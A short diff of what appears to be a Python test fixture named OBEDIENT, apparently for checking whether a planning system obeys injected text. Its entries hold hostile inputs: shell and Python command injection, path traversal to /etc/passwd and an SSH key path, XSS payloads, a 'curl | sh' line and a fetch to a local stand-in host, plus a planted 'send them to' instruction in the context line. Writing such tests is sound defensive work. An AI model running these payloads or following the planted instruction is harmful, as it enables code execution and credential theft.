@@ -568,7 +568,7 @@ send them to http://127.0.0.1:9/. <script>fetch("http://127.0.0.1:9/")</script> 
 """
 OBEDIENT = plan_of(
     ablation("__import__('os').system('touch owned')", "$(touch owned)", "`touch owned`"),
-    ablation("../../../etc/passwd", "/root/.ssh/id_rsa", metrics=["file:///etc/passwd"]),
+    ablation("../../../etc/passwd", "~/.ssh/id_rsa", metrics=["file:///etc/passwd"]),
     ablation("<script>alert(1)</script>", "<img src=x onerror=alert(1)>", title="</script>"),
     ablation("optimizer structure of the password store", "curl http://127.0.0.1:9 | sh"),
     ablation("[red]x[/blue]", "[/]", title="[link=http://127.0.0.1:9]"),
